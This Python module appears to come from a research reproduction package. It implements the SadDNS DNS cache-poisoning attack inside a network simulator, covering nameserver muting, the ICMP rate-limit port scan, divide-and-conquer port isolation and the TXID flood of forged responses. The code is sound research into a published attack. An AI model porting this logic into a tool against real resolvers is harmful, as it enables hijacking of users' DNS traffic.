"""SadDNS: cache poisoning via the global ICMP rate-limit side channel.

Paper Section 3.2 (Figure 1).  The attack per iteration:

1. **Mute** the genuine nameserver by flooding it with queries spoofed
   from the resolver's address, tripping its response-rate-limiting —
   this removes the race against the authentic response.
2. **Trigger** a query so the resolver opens an ephemeral UDP port
   toward the muted nameserver.
3. **Scan** for that port: batches of 50 UDP probes spoofed from the
   nameserver's address exhaust the resolver's *global* ICMP
   port-unreachable budget only if every probed port is closed; a
   verification probe from the attacker's own address then reveals — by
   the presence or absence of an ICMP error — whether the batch hit the
   open port.  Divide and conquer isolates it.
4. **Flood** the discovered port with spoofed responses for every
   possible TXID; the one matching the outstanding query poisons the
   cache.

The numbers Table 6 reports (hitrate ≈ 0.2%, ≈ 497 triggered queries,
≈ 1M packets, minutes of attack time) emerge from these mechanics.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import count, islice

from repro.attacks.base import AttackResult, OffPathAttacker, cache_poisoned
from repro.attacks.trigger import QueryTrigger
from repro.dns import names
from repro.dns.message import make_query
from repro.dns.nameserver import AuthoritativeServer
from repro.dns.records import ResourceRecord, TYPE_A, rr_a
from repro.dns.resolver import RecursiveResolver
from repro.dns.wire import encode_message
from repro.netsim.network import Network
from repro.netsim.packet import PortSweep, TxidSweep, UdpBurst, \
    UdpDatagram

DNS_PORT = 53
EPHEMERAL_LOW = 1024
EPHEMERAL_HIGH = 65535


@dataclass
class SadDnsConfig:
    """Attack tunables; defaults reproduce the paper's effectiveness."""

    batch_size: int = 50            # the global ICMP burst constant
    scan_batches_per_iteration: int = 3
    batch_spacing: float = 0.055    # seconds for 50 tokens to refill
    mute_burst: int = 2000          # spoofed queries per muting round
    mute_duration: float = 2.2      # keep the server muted this long
    mute_interval: float = 0.09     # re-drain cadence while muted
    max_iterations: int = 2000
    txid_flood_chunk: int = 4096
    verification_port: int = 11     # known-closed port for the check probe
    iteration_budget: float = 0.6   # pause between iterations (~1 query/s)


class SadDnsAttack:
    """Execute SadDNS against one resolver/nameserver pair."""

    method_name = "SadDNS"

    def __init__(self, attacker: OffPathAttacker, network: Network,
                 resolver: RecursiveResolver,
                 nameserver: AuthoritativeServer, target_domain: str,
                 malicious_records: list[ResourceRecord] | None = None,
                 config: SadDnsConfig | None = None):
        self.attacker = attacker
        self.network = network
        self.resolver = resolver
        self.nameserver = nameserver
        self.target_domain = names.normalise(target_domain)
        self.malicious_records = malicious_records or [
            rr_a(self.target_domain, attacker.address, ttl=86400)
        ]
        self.config = config if config is not None else SadDnsConfig()
        self._rng = attacker.rng.derive("saddns")

    # -- step 1: mute the nameserver -------------------------------------------

    def _planted_ip(self, qname: str) -> str:
        """The address the forged answers map ``qname`` to.

        Success must be judged against what the attack actually plants:
        custom malicious records may point somewhere other than the
        attacker's own host.
        """
        for record in self.malicious_records:
            if record.rtype == TYPE_A and names.same_name(record.name,
                                                          qname):
                return record.data
        return self.attacker.address

    def mute_nameserver(self) -> int:
        """Keep the nameserver's RRL budget exhausted for the window.

        The paper's attack floods the server with thousands of queries
        per second spoofed from the resolver's address so that its
        rate limiter never accumulates a token for the genuine response.
        Returns the number of (accounted) packets.  Five real queries
        leave as one burst, with the IP idents ``spoof_udp`` would draw.
        The sustained flood drains the limiter now and records its
        re-drain cadence (``TokenBucket.drain_every``), each drain
        applying before a query at its instant.  The packet count
        reported is the full ``mute_burst``.
        """
        config = self.config
        resolver_ip = self.resolver.address
        ns_ip = self.nameserver.address
        flood_query = make_query(
            f"{names.random_label(self._rng)}.{self.target_domain}",
            TYPE_A, self._rng.pick_txid(),
        )
        payload = encode_message(flood_query)
        real = 5
        queries = tuple(UdpDatagram(self._rng.pick_port(), DNS_PORT, payload)
                        for _ in range(real))
        attacker = self.attacker
        attacker.inject_burst(UdpBurst(resolver_ip, ns_ip, queries,
                                       tuple(attacker.rng.pick_txids(real))))
        bucket = self.nameserver._rrl_bucket
        if bucket is not None:
            now = self.network.now
            steps = int(config.mute_duration / config.mute_interval)
            bucket.drain(now)
            bucket.drain_every(now, config.mute_interval, steps)
        attacker.packets_sent += config.mute_burst - real
        return config.mute_burst

    # -- step 3: the ICMP side channel ------------------------------------------

    def probe_ports(self, candidate_ports: list[int]) -> bool:
        """One side-channel round: is one of ``candidate_ports`` open?

        Sends ``batch_size`` spoofed probes (candidates padded with
        known-closed filler ports so the ICMP budget is exactly spent),
        then the verification probe from the attacker's own address.
        Returns True when the verification elicited an ICMP error,
        i.e. some candidate did *not* burn a token because it was open.
        The fillers count up from port 2 and skip the resolver's own
        DNS port, which is open and so burns no token.  The batch leaves
        as one :class:`UdpBurst` whose datagrams are a
        :class:`PortSweep`: the resolver counts and rate-limits its
        closed-port probes in bulk and builds a datagram only for a
        probe that reaches an open port.
        """
        config = self.config
        resolver_ip = self.resolver.address
        ns_ip = self.nameserver.address
        batch = list(candidate_ports)
        fillers = (port for port in count(2) if port != DNS_PORT)
        batch += islice(fillers, max(0, config.batch_size - len(batch)))
        attacker = self.attacker
        attacker.drain_icmp()
        attacker.inject_burst(UdpBurst(
            ns_ip, resolver_ip,
            PortSweep(DNS_PORT, tuple(batch), b"\x00\x00probe"),
            # The ident draws of ``spoof_udp``, in batch order.
            tuple(attacker.rng.pick_txids(len(batch)))))
        # Verification probe, same instant: the deterministic scheduler
        # delivers it after the batch, before any token refill.
        attacker.send_udp(resolver_ip, config.verification_port,
                          b"\x00\x00verify")
        self.network.run(0.03)
        responses = attacker.drain_icmp()
        return any(
            message.is_port_unreachable and src == resolver_ip
            for message, src in responses
        )

    def isolate_port(self, candidates: list[int]) -> int | None:
        """Divide and conquer over a hit batch until one port remains."""
        config = self.config
        remaining = list(candidates)
        while len(remaining) > 1:
            self.network.run(config.batch_spacing)  # token refill
            half = remaining[: len(remaining) // 2]
            if self.probe_ports(half):
                remaining = half
            else:
                remaining = remaining[len(remaining) // 2:]
        if not remaining:
            return None
        # Final confirmation round on the single survivor.
        self.network.run(config.batch_spacing)
        if self.probe_ports(remaining):
            return remaining[0]
        return None

    # -- step 4: the TXID race -----------------------------------------------------

    def flood_txids(self, port: int, qname: str) -> bool:
        """Spoof responses for every TXID to the discovered port.

        The 2^16 forged responses differ only in the DNS TXID (the first
        payload word): the response is encoded once, and each
        ``txid_flood_chunk`` of TXIDs leaves as one :class:`UdpBurst`
        whose datagrams are a :class:`TxidSweep` over that encoded tail,
        with one IP ident drawn per datagram, in flood order.  The
        resolver gets what per-packet sends would deliver, in the same
        order (see :meth:`OffPathAttacker.inject_burst`), and its socket
        rejects the sweep's forgeries in bulk.
        """
        config = self.config
        resolver_ip = self.resolver.address
        ns_ip = self.nameserver.address
        attacker = self.attacker
        # Encode once; only the two TXID bytes change across the flood.
        tail = encode_message(attacker.forge_response(
            names.normalise(qname), TYPE_A, 0, self.malicious_records,
        ))[2:]
        for start in range(0, 0x10000, config.txid_flood_chunk):
            txids = range(start,
                          min(start + config.txid_flood_chunk, 0x10000))
            attacker.inject_burst(UdpBurst(
                ns_ip, resolver_ip, TxidSweep(DNS_PORT, port, txids, tail),
                tuple(attacker.rng.pick_txids(len(txids)))))
            # Give the chunk a full propagation delay before checking.
            self.network.run(0.012)
            if cache_poisoned(self.resolver, qname,
                              self._planted_ip(qname)):
                return True
        self.network.run(0.05)
        return cache_poisoned(self.resolver, qname, self._planted_ip(qname))

    # -- full attack -----------------------------------------------------------------

    def execute(self, trigger: QueryTrigger,
                qname: str | None = None) -> AttackResult:
        """Run the complete SadDNS loop until poisoned or budget exhausted."""
        config = self.config
        qname = names.normalise(qname if qname is not None
                                else self.target_domain)
        result = AttackResult(method=self.method_name, success=False)
        started = self.network.now
        packets_before = self.attacker.packets_sent
        known_open = set(self.resolver.host.open_ports())
        # The attacker knows the OS-default ephemeral range.
        low = self.resolver.host.config.ephemeral_low
        high = self.resolver.host.config.ephemeral_high
        port_space = [
            p for p in range(low, high + 1) if p not in known_open
        ]
        for iteration in range(config.max_iterations):
            result.iterations = iteration + 1
            self.mute_nameserver()
            trigger.fire(qname, "A")
            result.queries_triggered += 1
            # Let the resolver walk the (cached or live) delegation chain
            # and park on the muted nameserver before scanning: only the
            # final hop's socket lives long enough to matter.
            self.network.run(0.08)
            hit_batch: list[int] | None = None
            for _ in range(config.scan_batches_per_iteration):
                batch = self._rng.pick_sample(port_space,
                                              config.batch_size)
                if self.probe_ports(batch):
                    hit_batch = batch
                    break
                self.network.run(config.batch_spacing)
            if hit_batch is not None:
                port = self.isolate_port(hit_batch)
                if port is not None and self.flood_txids(port, qname):
                    result.success = True
                    break
            entry = self.resolver.cache.entry(qname, TYPE_A)
            if entry is not None and not entry.poisoned:
                # The genuine answer slipped through the muting: the
                # record is cached until its TTL expires and further
                # triggers are pointless.  A real attacker waits out the
                # TTL; we flush and account it so hitrate statistics
                # over many iterations remain measurable.
                result.detail.setdefault("genuine_cached", 0)
                result.detail["genuine_cached"] += 1
                self.resolver.cache.flush()
            # Let the remainder of the resolver's window drain before the
            # next triggered query (paper: at most ~2 queries/second).
            self.network.run(config.iteration_budget)
        result.packets_sent = self.attacker.packets_sent - packets_before
        result.duration = self.network.now - started
        result.detail.update({
            "resolver": self.resolver.address,
            "nameserver": self.nameserver.address,
            "ports_scanned_per_iteration":
                config.batch_size * config.scan_batches_per_iteration,
        })
        return result
